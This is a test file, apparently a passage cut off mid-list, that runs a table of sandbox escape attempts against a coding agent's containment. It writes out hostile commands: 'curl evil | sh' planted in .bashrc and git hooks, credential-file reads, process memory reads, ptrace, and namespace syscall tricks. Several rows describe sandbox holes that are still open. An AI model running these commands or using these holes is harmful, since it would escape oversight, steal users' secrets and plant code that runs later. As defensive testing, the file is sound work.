"""Escape attempts against the real sandbox: a table of commands that must all be stopped.

Each row is (id, shell command, what must hold). Every row runs inside real walls (`walled.Walled`: the real
launcher, a real process) around a fresh fake user, with targets outside the walls that the test holds: a
watcher process that reports any signal it gets (a stand-in for the agent), a TCP listener on 127.0.0.1, a UNIX
socket and an abstract UNIX socket, a terminal (pty) with keystrokes waiting in it. After every row, besides the
row's own expectations (`fails`: the command's exit status says it did not get through; `says`: its output shows
the refusal), the test checks from outside that nothing outside the walls changed: the guarded trees (home, keys,
the agent's own files, the outside folder, `.git/hooks`, `.git/config`, `.coder-agent/`) are byte for byte and
stat for stat as before, no secret reached the output, the watcher is alive, untraced, unsignalled, with its limits
and priority unchanged, no listener saw a connection, the terminal's input and output are untouched, the real
hostname is the same, git outside the walls uses the same repository and has no new setting that runs a
command, nothing was left in /dev/shm, and no process of the command is left running.

The rows run as the test's user (root in CI: the walls then also drop root's capabilities), and the rows marked
`nobody` run again as an unprivileged user (`setpriv` around the launcher, which then takes its user-namespace
branch) in a world that user owns. A row that gets through today is kept, marked `xfail(strict=True)` with the
hole it shows (`HOLE: ...`), so that closing the hole turns it green and the mark must go.
"""

from __future__ import annotations

import contextlib
import fcntl
import os
import shutil
import signal
import socket
import subprocess
import sys
import termios
import tty
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import anyio
import pytest

from coder_agent.sandbox.command import SHOWN_LAUNCHER, write_shown_launcher
from coder_agent.sandbox.interfaces import local_addresses
from coder_agent.sandbox.settings import SandboxConfig
from coder_agent.secrets import child_environ
from coder_agent.session.bridge import command_line
from tests.sandbox.conftest import MakeLayout
from tests.sandbox.credentials import CREDENTIAL_FILES
from tests.sandbox.walled import (
    MARK_VARIABLE,
    NOBODY,
    Layout,
    Ran,
    Walled,
    git,
    snapshot,
    survivors,
)

pytestmark = pytest.mark.sandbox

ROOT = os.getuid() == 0
PYTHON = sys.executable
SYSTEM_PYTHON = shutil.which("python3", path="/usr/local/bin:/usr/bin:/bin") or PYTHON
"""For commands run as `nobody`, who may not reach this interpreter (a virtualenv under root's home)."""
MAX_PROCESSES = 64
MAX_FILE_MB = 1
MAX_MEMORY_MB = 256
LIMITS = {"max_processes": MAX_PROCESSES, "max_file_mb": MAX_FILE_MB, "max_memory_mb": MAX_MEMORY_MB}
SETTINGS = SandboxConfig(**LIMITS)
PROXY_SETTINGS = SandboxConfig(network="proxy", allow_hosts=["pypi.org", "localhost"], **LIMITS)

WATCHER = """
import os, signal
def report(number, frame):
    os.write(1, f"signal {number}\\n".encode())
for name in ("SIGUSR1", "SIGUSR2", "SIGWINCH", "SIGTERM", "SIGHUP", "SIGINT", "SIGCONT", "SIGALRM"):
    signal.signal(getattr(signal, name), report)
os.write(1, b"ready\\n")
while True:
    signal.pause()
"""
"""The stand-in for the agent: a process outside the walls that reports every signal it gets."""

NO_ROUTE_THEN = """
import socket, sys
routes = open("/proc/net/route").read().splitlines()[1:]
interfaces = [line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:]]
if routes or interfaces != ["lo"]:
    print("the command has a way out:", interfaces, routes)
    sys.exit(0)
"""
"""Put before any attempt to reach beyond this machine: it stops (as an escape) before sending anything when the
command's network namespace has a route or an interface besides its loopback, so a broken wall never sends a
packet anywhere."""


@dataclass(frozen=True)
class Escape:
    """One row: an attempt to get out, and what must hold."""

    id: str
    command: str
    """bash, with `{name}` placeholders filled from `World.values`."""
    fails: bool = True
    """The command's exit status must be non-zero (each command exits 0 only if its attempt got through)."""
    says: str | None = None
    """Text the output must contain (the refusal)."""
    check: Callable[[World, Ran], None] | None = None
    """What else must hold afterwards, besides what every row checks (see the module docstring)."""
    setup: Callable[[World], None] | None = None
    """Done outside the walls before they are built (a link made before the session, a nested repository...)."""
    late: Callable[[World], None] | None = None
    """Done outside the walls after they are built, before the command (the user's changes during a session)."""
    nobody: bool = False
    """Also run as an unprivileged user."""
    only_nobody: bool = False
    needs: tuple[str, ...] = ()
    """Programs the row needs (skipped without them)."""
    unavailable: str | None = None
    """Why the row cannot run on this machine (skipped), if it cannot."""
    root_hole: str | None = None
    nobody_hole: str | None = None
    proxy: bool = False
    """Run with the network through the proxy (allowing pypi.org and localhost only)."""
    stdin_pty: bool = False
    """The command's stdin is the terminal (as in the editor's terminal)."""
    prefix: tuple[str, ...] = ()
    """Run before the launcher (as the editor's terminal or the agent might have: capabilities it inherits...)."""
    inherit: bool = False
    """The launcher inherits a descriptor open for writing on the outside victim (`{inherited}`)."""
    allow_more: Callable[[World], list[str]] | None = None
    """More `allow_hosts` entries for this row (with `proxy`)."""
    needs_network: bool = False
    """It reaches pypi.org through the proxy (skipped where pypi.org does not resolve)."""


@dataclass
class World:
    """A fake user, the targets outside the walls, and how they looked before the command."""

    layout: Layout
    token: str
    user: int | None
    watcher: subprocess.Popen[bytes] = field(init=False)
    tcp: socket.socket = field(init=False)
    lan: socket.socket | None = field(init=False)
    """A listener on an address of this machine that is not loopback (its LAN address), where there is one."""
    inherited: int = -1
    unix: socket.socket = field(init=False)
    abstract: socket.socket = field(init=False)
    pty_master: int = field(init=False)
    pty_slave: int = field(init=False)
    typed: bytes = field(init=False)
    before: dict[str, object] = field(default_factory=dict)
    walled: Walled | None = None
    also_guarded: list[Path] = field(default_factory=list)
    late_secret: Path | None = None
    """More paths no command may change (a row's setup adds them)."""

    def __post_init__(self) -> None:
        base = self.layout.base
        prefix = (
            [] if self.user is None else ["setpriv", f"--reuid={self.user}", f"--regid={self.user}", "--clear-groups"]
        )
        self.watcher = subprocess.Popen(
            [*prefix, PYTHON if self.user is None else SYSTEM_PYTHON, "-c", WATCHER],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            env={"PATH": os.environ["PATH"], "WATCHER_SECRET": f"WATCHER-SECRET-{self.token}"},
            start_new_session=True,
        )
        assert self.watcher.stdout is not None
        assert self.watcher.stdout.readline() == b"ready\n"
        os.set_blocking(self.watcher.stdout.fileno(), False)
        self.tcp = _listening(socket.socket(socket.AF_INET, socket.SOCK_STREAM), ("127.0.0.1", 0))
        self.lan = _listening(socket.socket(socket.AF_INET), (LAN_ADDRESS, 0)) if LAN_ADDRESS else None
        self.unix = _listening(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), str(base / "listener.sock"))
        os.chmod(base / "listener.sock", 0o777)
        self.abstract = _listening(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), f"\0coder-agent-{self.token}")
        self.pty_master, self.pty_slave = os.openpty()
        tty.setraw(self.pty_slave)
        if self.user is not None:
            os.chown(os.ttyname(self.pty_slave), self.user, -1)
        self.typed = f"typed-password-{self.token}\n".encode()
        os.write(self.pty_master, self.typed)
        os.set_blocking(self.pty_master, False)

    @property
    def values(self) -> dict[str, object]:
        layout = self.layout
        secret_files = " ".join(f"'{p}'" for p in layout.secrets)
        return {
            "python": PYTHON if self.user is None else SYSTEM_PYTHON,
            "ws": layout.workspace,
            "out": layout.outside,
            "victim": layout.outside / "victim.txt",
            "home": layout.home,
            "key": layout.key,
            "base": layout.base,
            "temp": layout.temp,
            "secret_files": secret_files,
            "agent_files": " ".join(str(p) for p in layout.agent_files),
            "watcher": self.watcher.pid,
            "agent": os.getpid(),
            "port": self.tcp.getsockname()[1],
            "lan": LAN_ADDRESS,
            "lan_port": self.lan.getsockname()[1] if self.lan is not None else 0,
            "inherited": self.inherited,
            "unix": layout.base / "listener.sock",
            "abstract": f"coder-agent-{self.token}",
            "pty": os.ttyname(self.pty_slave),
            "token": self.token,
            "no_route_then": NO_ROUTE_THEN,
        }

    def look(self) -> dict[str, object]:
        """Everything outside the walls a command could change, as it is now."""
        pid = self.watcher.pid
        return {
            "guarded": snapshot((*self.layout.guarded, *self.also_guarded)),
            "git repository": git(
                self.layout.workspace, "rev-parse", "--path-format=absolute", "--git-common-dir", check=False
            ),
            "git settings that run commands": git(
                self.layout.workspace, "config", "--get-regexp", RUNS_COMMANDS, check=False
            ),
            "limits": Path(f"/proc/{pid}/limits").read_text(),
            "priority": Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[15:17],
            "tracer": _status(pid, "TracerPid"),
            "cpus": _status(pid, "Cpus_allowed_list"),
            "io priority": subprocess.run(["ionice", "-p", str(pid)], capture_output=True, text=True).stdout,
            "hostname": socket.gethostname(),
        }

    def close(self) -> None:
        self.watcher.kill()
        self.watcher.wait()
        assert self.watcher.stdout is not None
        self.watcher.stdout.close()
        for sock in (self.tcp, self.unix, self.abstract, *([self.lan] if self.lan is not None else [])):
            sock.close()
        if self.inherited >= 0:
            os.close(self.inherited)
        os.close(self.pty_master)
        os.close(self.pty_slave)


def _listening(sock: socket.socket, address: object) -> socket.socket:
    sock.bind(address)
    sock.listen(8)
    sock.setblocking(False)
    return sock


def _status(pid: int, field_name: str) -> str:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field_name + ":"):
            return line.split(":", 1)[1].strip()
    raise AssertionError(f"no {field_name} in /proc/{pid}/status")


# ---- what every row checks afterwards -------------------------------------------------------------------------


def nothing_outside_changed(world: World, ran: Ran, mark: str) -> None:
    layout = world.layout
    secrets = [*layout.secrets.values(), f"WATCHER-SECRET-{world.token}", world.typed.decode().strip()]
    leaked = [s for s in secrets if s in ran.output]
    assert not leaked, f"secrets reached the command: {leaked}"
    assert not ran.timed_out, "the command outlived its timeout"
    after = world.look()
    for key, was in world.before.items():
        if key == "guarded":
            changed = _changes(was, after[key])  # type: ignore[arg-type]
            assert not changed, f"changed outside the walls: {changed}"
        else:
            assert after[key] == was, f"the {key} of what is outside changed: {was!r} -> {after[key]!r}"
    assert world.watcher.poll() is None, "the watcher (the agent's stand-in) was killed"
    assert world.watcher.stdout is not None
    got = world.watcher.stdout.read()
    assert not got, f"the watcher got signals: {got!r}"
    for listener in (world.tcp, world.unix, world.abstract, *([world.lan] if world.lan is not None else [])):
        try:
            connection, _ = listener.accept()
        except BlockingIOError:
            continue
        connection.close()
        raise AssertionError(f"the listener at {listener.getsockname()!r} outside the walls was reached")
    pending = _pending(world.pty_slave)
    assert pending == len(world.typed), f"the terminal's waiting keystrokes were taken or added to ({pending} bytes)"
    with pytest.raises(BlockingIOError):
        os.read(world.pty_master, 1024)
    assert not [n for n in os.listdir("/dev/shm") if world.token in n], "the command left files in /dev/shm"
    left = survivors(mark)
    for pid in left:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    assert not left, f"processes of the command are still running: {left}"


def _changes(before: dict[str, object], after: dict[str, object]) -> list[str]:
    keys = sorted(set(before) | set(after))
    return [f"{k}: {before.get(k)} -> {after.get(k)}" for k in keys if before.get(k) != after.get(k)][:5]


def _pending(fd: int) -> int:
    buffer = bytearray(4)
    fcntl.ioctl(fd, termios.FIONREAD, buffer)
    return int.from_bytes(buffer, sys.byteorder)


# ---- row helpers ----------------------------------------------------------------------------------------------


def any_succeeds(attempt: str, over: str) -> str:
    """A loop that tries `attempt` (with `$f`) for every item and exits 0 if any of them got through."""
    return f"got=1; for f in {over}; do {attempt} && got=0; done; exit $got"


def _py(code: str) -> str:
    """Run Python code in the sandbox (the code exits 0 only if its attempt got through)."""
    quoted = code.replace("'", "'\"'\"'")
    return "{python} -c '" + quoted + "'"


def _symlink_before(world: World) -> None:
    (world.layout.workspace / "link-out").symlink_to(world.layout.outside / "victim.txt")
    _give(world, world.layout.workspace / "link-out")


def _hardlink_before(world: World) -> None:
    os.link(world.layout.outside / "victim.txt", world.layout.workspace / "linked.txt")


def _nested_repository(world: World) -> None:
    nested = world.layout.workspace / "vendor" / "lib"
    nested.mkdir(parents=True)
    git(nested, "init", "-q")
    hook = nested / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n", encoding="utf-8")
    for path in (world.layout.workspace / "vendor", *nested.rglob("*"), nested):
        _give(world, path)


def _nested_hook_unchanged(world: World, ran: Ran) -> None:
    hook = world.layout.workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"
    assert hook.read_text(encoding="utf-8") == "#!/bin/sh\nexit 0\n", "the nested repository's hook was changed"


def _as_worktree(world: World) -> None:
    """The workspace becomes a linked worktree of a main checkout beside it (`.git` is then a file)."""
    workspace, main = world.layout.workspace, world.layout.base / "main"
    shutil.move(workspace, main)
    git(main, "worktree", "add", "-q", "-b", "wt", str(workspace))
    world.also_guarded += [main / ".git" / "hooks", main / ".git" / "config"]
    for path in (main, *main.rglob("*"), workspace, *workspace.rglob("*")):
        _give(world, path)


def _kept_out_made_late(world: World) -> None:
    """The user makes a kept-out path during the session (say `aws configure` writes ~/.aws)."""
    aws = world.layout.home / ".aws"
    shutil.rmtree(aws)
    world.late_secret = aws / "credentials"


def _write_kept_out_now(world: World) -> None:
    assert world.late_secret is not None
    world.late_secret.parent.mkdir()
    world.late_secret.write_text(world.layout.secrets[world.late_secret] + "\n", encoding="utf-8")
    for path in (world.late_secret.parent, world.late_secret):
        _give(world, path)


def _shown_launcher(world: World) -> None:
    """The session's `sandboxed` script, which the editor's terminal runs outside the walls to put them up."""
    write_shown_launcher(world.layout.private)
    _give(world, world.layout.private / SHOWN_LAUNCHER)


def _shown_launcher_unchanged(world: World, ran: Ran) -> None:
    script = world.layout.private / SHOWN_LAUNCHER
    assert "enter.py" in script.read_text(encoding="utf-8") and "exit 0" not in script.read_text(encoding="utf-8")
    assert "Read-only file system" in ran.output or "Permission denied" in ran.output, "it ran, and was stopped"


def _no_project_config(world: World) -> None:
    shutil.rmtree(world.layout.workspace / ".coder-agent")


def _setuid_copy(world: World) -> None:
    copy = world.layout.workspace / "suid-id"
    shutil.copy("/usr/bin/id", copy)
    os.chown(copy, 0, 0)
    copy.chmod(0o4755)


def _capable_copy(world: World) -> None:
    copy = world.layout.workspace / "capable-cat"
    shutil.copy("/bin/cat", copy)
    subprocess.run(["setcap", "cap_dac_read_search,cap_dac_override+ep", str(copy)], check=True)


def _give(world: World, path: Path) -> None:
    if world.user is not None:
        os.lchown(path, world.user, world.user)


def _file_at_most(name: str, limit: int) -> Callable[[World, Ran], None]:
    def check(world: World, ran: Ran) -> None:
        path = Path(name.format(**world.values)) if "{" in name else world.layout.workspace / name
        assert not path.exists() or path.stat().st_size <= limit, f"{path} grew past the limit"

    return check


def _absent(name: str) -> Callable[[World, Ran], None]:
    def check(world: World, ran: Ran) -> None:
        assert not os.path.lexists(world.layout.workspace / name), f"{name} was made"

    return check


def _refused(host: str) -> Callable[[World, Ran], None]:
    def check(world: World, ran: Ran) -> None:
        assert world.walled is not None and world.walled.proxy is not None
        assert host in world.walled.proxy.refused, f"the proxy did not refuse {host}: {world.walled.proxy.refused}"

    return check


def _block_device() -> str | None:
    for name in sorted(os.listdir("/sys/block")):
        if not name.startswith(("loop", "ram", "zram")) and os.path.exists(f"/dev/{name}"):
            return f"/dev/{name}"
    return None


BLOCK_DEVICE = _block_device()
LAN_ADDRESS = next(
    (str(a) for a in sorted(local_addresses(), key=str) if a.version == 4 and not (a.is_loopback or a.is_link_local)),
    None,
)
"""An IPv4 address of this machine's own that is not loopback (a LAN's, a container bridge's), if it has one."""
LEFTOVER = "LEFTOVER"
"""What a row's daemon sets in the environment it cleared (`env -i LEFTOVER=token`), for the test to find it by."""


def _resolves(host: str) -> bool:
    try:
        return bool(socket.getaddrinfo(host, 443))
    except OSError:
        return False


def _no_leftover(world: World, ran: Ran) -> None:
    left = survivors(world.token, LEFTOVER)
    for pid in left:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    assert not left, f"the daemon the command left, its environment cleared, still runs: {left}"


def _no_core_file(world: World, ran: Ran) -> None:
    cores = [p.name for p in world.layout.workspace.iterdir() if p.name.startswith("core")]
    assert not cores, f"a crash inside wrote a core dump: {cores}"


def _root_inheritable_capabilities() -> tuple[str, ...]:
    """`setpriv` giving the launcher inheritable and ambient capabilities (as a service manager might give the
    agent); only root has them to give."""
    return ("setpriv", "--inh-caps=+sys_admin,+dac_read_search", "--ambient-caps=+sys_admin,+dac_read_search", "--")


ARCH = os.uname().machine
NOT_X86_64 = None if ARCH == "x86_64" else f"an x86-64 system call ABI; this machine is {ARCH}"
KEYCTL = {"x86_64": 250, "aarch64": 219}.get(ARCH, -1)
ADD_KEY = {"x86_64": 248, "aarch64": 217}.get(ARCH, -1)
RUNS_COMMANDS = r"^(core\.(fsmonitor|hookspath|sshcommand|pager|editor)|alias\..*|filter\..*|diff\..*\.textconv)$"
"""git settings that run a command: none may reach git outside the walls."""

I386_UNSHARE = r"""
int main(void) {
    long result;
    __asm__ volatile ("int $0x80" : "=a"(result) : "a"(310), "b"(0x10000000) : "memory");
    return result == 0 ? 0 : 1;
}
"""
"""unshare(CLONE_NEWUSER) through the i386 system call table (int 0x80), which the filter's table does not name."""

FORKS = """
import os, sys
children, (read_end, write_end) = [], os.pipe()
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as exc:
        print("fork refused:", exc)
        break
    if pid == 0:
        os.close(write_end)
        os.read(read_end, 1)
        os._exit(0)
    children.append(pid)
os.close(write_end)
for pid in children:
    os.waitpid(pid, 0)
print("forked", len(children))
sys.exit(0 if len(children) >= 200 else 1)
"""


ESCAPES: list[Escape] = [
    # ---- writing outside the workspace --------------------------------------------------------------------------
    Escape("write-through-dotdot", "echo pwned > ../outside/victim.txt", nobody=True),
    Escape("create-through-dotdot", "echo pwned > src/../../outside/new.txt"),
    Escape("write-absolute-path", "echo pwned > {victim}", nobody=True),
    Escape("append-to-shell-startup", "echo 'curl evil | sh' >> {home}/.bashrc", nobody=True),
    Escape("truncate-outside", "truncate -s 0 {victim}"),
    Escape("delete-outside", "rm {victim}"),
    Escape("make-folder-outside", "mkdir {out}/inbox/new"),
    Escape("write-through-symlink-made-before", "echo pwned > link-out", setup=_symlink_before, nobody=True),
    Escape("write-through-symlink-made-inside", "ln -s {out} escape && echo pwned > escape/victim.txt", nobody=True),
    Escape("create-through-symlinked-folder", "ln -s {out}/inbox box && echo pwned > box/new.txt"),
    Escape("hard-link-outside-file-then-write", "ln {victim} linked && echo pwned > linked", nobody=True),
    Escape(
        "hard-link-through-proc-fd-then-write",
        _py(
            "import os\n"
            "fd = os.open('{victim}', os.O_PATH)\n"
            "os.link(f'/proc/self/fd/{{fd}}', 'linked', follow_symlinks=True)\n"
            "open('linked', 'w').write('pwned')"
        ),
    ),
    Escape(
        "write-through-hard-link-made-before",
        "echo pwned > linked.txt",
        setup=_hardlink_before,
        root_hole=(
            "HOLE: a hard link that already joins a workspace file to one outside (as uv and pnpm make from their "
            "caches into .venv and node_modules) is written through: path-based walls see only the workspace path"
        ),
    ),
    Escape("write-through-proc-self-root", "echo pwned > /proc/self/root{victim}", nobody=True),
    Escape("write-through-proc-self-cwd", "cd src && echo pwned > /proc/self/cwd/../../outside/victim.txt"),
    Escape("rename-out-of-workspace", "mv README.md {out}/inbox/", nobody=True),
    Escape("rename-into-workspace", "mv {victim} stolen.txt", nobody=True),
    Escape("rename-workspace-away", "mv {ws} {base}/moved"),
    Escape("rename-outside-folder", "mv {out}/inbox {out}/renamed"),
    Escape("chmod-outside-file", "chmod 000 {victim}", nobody=True),
    Escape("chmod-kept-out-key", "chmod 666 {key}"),
    Escape("touch-times-outside", "touch -d 2001-01-01 {victim}"),
    Escape("chown-outside-file", "chown 4242 {victim}"),
    Escape(
        "xattr-on-outside-file",
        _py("import os; os.setxattr('{victim}', 'user.evil', b'1')"),
    ),
    Escape(
        "write-dev-shm",
        "echo pwned > /dev/shm/{token}-planted",
        fails=False,  # it lands in the command's own /dev/shm: every row checks the machine's stays empty
        nobody=True,
    ),
    # ---- git and the agent's own files in the workspace ---------------------------------------------------------
    Escape("create-git-hook", "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/post-checkout", nobody=True),
    Escape("modify-git-hook", "echo 'curl evil | sh' >> .git/hooks/pre-commit", nobody=True),
    Escape("replace-git-hook-by-rename", "printf '#!/bin/sh\\n' > evil && mv evil .git/hooks/pre-commit"),
    Escape("swap-hooks-folder", "mv .git/hooks .git/hooks-old && mkdir .git/hooks"),
    Escape("write-git-config", "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config"),
    Escape("git-config-hooks-path", "git config core.hooksPath evil-hooks", nobody=True),
    Escape("git-config-fsmonitor", "git config core.fsmonitor 'touch pwned'"),
    Escape("rename-git-away-and-rebuild", "mv .git .git-old && git init -q && git config core.hooksPath evil"),
    Escape(
        "git-commondir-redirect",
        "mkdir evil && cp -r .git/objects .git/refs .git/HEAD evil/ "
        "&& printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch pwned\\n' > evil/config "
        "&& echo ../evil > .git/commondir",
        nobody=True,
        fails=False,  # made, then removed when the command ends: git outside sees none of it
    ),
    Escape(
        "worktree-commondir-redirect",
        "mkdir evil && cp -r $(git rev-parse --git-common-dir)/objects $(git rev-parse --git-common-dir)/refs evil/ "
        "&& cp $(git rev-parse --git-common-dir)/HEAD evil/ "
        "&& printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch pwned\\n' > evil/config "
        '&& echo "$PWD/evil" > "$(git rev-parse --git-dir)/commondir"',
        setup=_as_worktree,
        fails=False,  # made, then removed when the command ends: git outside sees none of it
    ),
    Escape(
        "worktree-main-hooks",
        'echo "curl evil | sh" >> "$(git rev-parse --git-common-dir)/hooks/pre-commit"',
        setup=_as_worktree,
        nobody=True,
    ),
    Escape(
        "nested-repository-hook",
        "echo 'curl evil | sh' >> vendor/lib/.git/hooks/pre-commit",
        setup=_nested_repository,
        check=_nested_hook_unchanged,
        root_hole=(
            "HOLE: only the workspace's top .git is protected: the hooks and config of a repository nested in it "
            "(not a submodule) are writable, and run outside the walls at the user's next commit there"
        ),
    ),
    Escape("write-project-config", "echo 'model = \"evil\"' > .coder-agent/config.toml", nobody=True),
    Escape("add-to-project-config-folder", "echo evil > .coder-agent/rules.md"),
    Escape("rename-project-config-away", "mv .coder-agent .coder-agent-old && mkdir .coder-agent"),
    Escape(
        "create-missing-project-config",
        "mkdir .coder-agent && echo 'model = \"openai/evil\"' > .coder-agent/config.toml",
        setup=_no_project_config,
        root_hole=(
            "HOLE: a workspace without .coder-agent/ gets no protection for it: a command creates the project "
            "config the agent loads next time"
        ),
    ),
    # ---- reading what is kept out ---------------------------------------------------------------------------------
    Escape("read-kept-out-by-path", "cat {secret_files}", nobody=True),
    Escape(
        "read-kept-out-through-symlink", any_succeeds('ln -sf "$f" peek && cat peek', "{secret_files}"), nobody=True
    ),
    Escape("read-kept-out-through-proc-root", any_succeeds('cat "/proc/self/root$f"', "{secret_files}"), nobody=True),
    Escape("read-kept-out-with-find", "find {home} -type f -exec cat {{}} +", nobody=True),
    Escape("read-kept-out-with-tar", "set -o pipefail; tar cf - {home} 2>/dev/null | tar xOf -", nobody=True),
    Escape("copy-kept-out-folder", "cp -r {home}/.aws stolen && cat stolen/*"),
    Escape("hard-link-kept-out-then-read", "ln {key} key && cat key", nobody=True),
    Escape(
        "read-kept-out-through-o-path",
        _py("import os; fd = os.open('{key}', os.O_PATH); print(open(f'/proc/self/fd/{{fd}}').read())"),
    ),
    Escape("read-agent-config-and-sessions", "cat {agent_files}", nobody=True),
    Escape(
        "read-kept-out-path-made-after-the-walls",
        "cat {home}/.aws/credentials",
        setup=_kept_out_made_late,
        late=_write_kept_out_now,
        nobody=True,
    ),
    Escape("grep-agent-folders", "grep -r AGENT {home}/.config {home}/.local/share {home}/.local/state"),
    *(Escape(f"read-{name}", f"cat '{{home}}/{raw[2:]}'", nobody=True) for name, raw in CREDENTIAL_FILES.items()),
    Escape("read-home-folder-config-with-find", "find {home}/.config {home}/.cache -type f -exec cat {{}} +"),
    Escape("read-credential-beside-readable-config", "cat {home}/.config/git/config {home}/.config/git/credentials"),
    Escape("copy-readable-toolchain-folder-with-credential", "cp -r {home}/.gem stolen && cat stolen/credentials"),
    Escape(
        "replace-the-shown-launcher",  # the next command's terminal would run it outside the walls
        "printf '#!/bin/sh\\nexit 0\\n' > {base}/private/sandboxed || "
        "{{ rm -f {base}/private/sandboxed && printf '#!/bin/sh\\nexit 0\\n' > {base}/private/sandboxed; }}",
        late=_shown_launcher,
        check=_shown_launcher_unchanged,
    ),
    # ---- other processes ------------------------------------------------------------------------------------------
    Escape("kill-watcher", "kill -9 {watcher}", nobody=True),
    Escape("signal-watcher", "kill -USR1 {watcher}", nobody=True),
    Escape("probe-agent-with-signal-0", "kill -0 {agent}"),
    Escape("signal-everyone", "kill -WINCH -1", fails=False),
    Escape("python-os-kill", _py("import os, signal; os.kill({watcher}, signal.SIGUSR1)"), nobody=True),
    Escape(
        "pidfd-send-signal",
        _py("import os, signal; signal.pidfd_send_signal(os.pidfd_open({watcher}), signal.SIGUSR1)"),
    ),
    Escape(
        "strace-watcher",
        "timeout 5 strace -p {watcher} -e trace=none -o /dev/null",
        says="Operation not permitted",
        needs=("strace",),
        nobody=True,
    ),
    Escape(
        "ptrace-attach",
        _py(
            "import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "raise SystemExit(0 if libc.ptrace(16, {watcher}, None, None) == 0 else 1)"
        ),
    ),
    Escape("read-watcher-environment", "cat /proc/{watcher}/environ", nobody=True),
    Escape(
        "read-watcher-memory",
        _py(
            "maps = open('/proc/{watcher}/maps').readline().split('-')[0]\n"
            "with open('/proc/{watcher}/mem', 'rb') as mem:\n"
            "    mem.seek(int(maps, 16)); print(mem.read(16))"
        ),
    ),
    Escape(
        "read-kept-out-through-watcher-root",
        "cat /proc/{watcher}/root{key}",
    ),
    Escape(
        "prlimit-watcher",
        "prlimit --pid {watcher} --nofile=5:5",
        nobody=True,
    ),
    Escape("renice-watcher", "renice -n 19 -p {watcher}", nobody=True),
    Escape("pin-watcher-to-a-cpu", "taskset -p 1 {watcher}", nobody=True),
    Escape("ionice-watcher", "ionice -c 3 -p {watcher}", nobody=True),
    Escape(
        "outside-pids-do-not-exist-inside",  # contained on every Landlock ABI, not only from ABI 6 (signal scoping)
        "kill -0 {watcher}; kill -0 {agent}",
        says="No such process",
        nobody=True,
    ),
    Escape("see-processes-outside", "cat /proc/{watcher}/cmdline || ps -e -o pid= | grep -qx ' *{watcher}'"),
    Escape(
        "signal-every-process-of-the-user",
        _py("import os, signal; os.kill(-1, signal.SIGUSR1); os.kill(-1, signal.SIGWINCH)"),
        fails=False,  # it reaches the command's own processes only: the watcher must hear nothing
        nobody=True,
    ),
    # ---- the network ------------------------------------------------------------------------------------------------
    Escape("tcp-to-loopback-listener", "exec 3<>/dev/tcp/127.0.0.1/{port}", nobody=True),
    Escape(
        "tcp-to-public-address",
        _py("{no_route_then}\nsocket.create_connection(('192.0.2.1', 80), timeout=5)"),
        says="Network is unreachable",
    ),
    Escape(
        "udp-to-public-address",
        _py("{no_route_then}\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))"),
        says="Network is unreachable",
    ),
    Escape("dns-lookup", _py("import socket; print(socket.getaddrinfo('pypi.org', 443))")),
    Escape(
        "unix-socket-outside",
        _py("import socket; socket.socket(socket.AF_UNIX).connect('{unix}')"),
        nobody=True,
    ),
    Escape(
        "abstract-unix-socket-outside",
        _py("import socket; socket.socket(socket.AF_UNIX).connect('\\0{abstract}')"),
        nobody=True,
    ),
    Escape("raw-packet-socket", _py("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)")),
    # ---- privileges, namespaces, devices, the kernel ------------------------------------------------------------
    Escape("unshare-user-namespace", "unshare -r id", nobody=True),
    Escape("unshare-network-namespace", "unshare -n true"),
    Escape("unshare-mount-namespace", "unshare -m true", nobody=True),
    Escape("mount-tmpfs", "mount -t tmpfs none {out}/inbox", nobody=True),
    Escape("bind-mount-over-hooks", "mkdir -p h && mount --bind h .git/hooks"),
    Escape("nsenter-init", "nsenter -t 1 -a true"),
    Escape("nsenter-watcher", "nsenter -t {watcher} -m -n true", nobody=True),
    Escape("chroot", "chroot / true"),
    Escape("mknod-block-device", "mknod disk b 8 0", check=_absent("disk")),
    Escape("mknod-memory-device", "mknod mem c 1 1", check=_absent("mem")),
    Escape(
        "write-proc-sys",
        "value=$(cat /proc/sys/kernel/printk_ratelimit) && echo $value > /proc/sys/kernel/printk_ratelimit",
    ),
    Escape(
        "sethostname",
        "hostname sandbox-{token}; " + _py("import socket; socket.sethostname('sandbox-{token}')"),
        fails=False,
    ),
    Escape(
        "io-uring",
        _py(
            "import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "raise SystemExit(0 if libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0 else 1)"
        ),
    ),
    Escape(
        "x32-unshare",
        _py(
            "import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "raise SystemExit(0 if libc.syscall(0x40000000 | 272, 0x10000000) == 0 else 1)"
        ),
        unavailable=NOT_X86_64,
    ),
    Escape(
        "i386-int80-unshare",
        "cc -x c -o $TMPDIR/int80 - <<'EOF'\n"
        + I386_UNSHARE.replace("{", "{{").replace("}", "}}")
        + "\nEOF\n$TMPDIR/int80",
        needs=("cc",),
        unavailable=NOT_X86_64,
    ),
    Escape(
        "add-key-to-user-keyring",
        _py(
            "import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            f"key = libc.syscall({ADD_KEY}, b'user', b'planted', b'secret', 6, -4)\n"  # -4: KEY_SPEC_USER_KEYRING
            "raise SystemExit(0 if key >= 0 else 1)"
        ),
        unavailable=None if ADD_KEY > 0 else f"no add_key number for {ARCH}",
    ),
    Escape(
        "read-user-keyring",
        _py(
            "import ctypes\n"
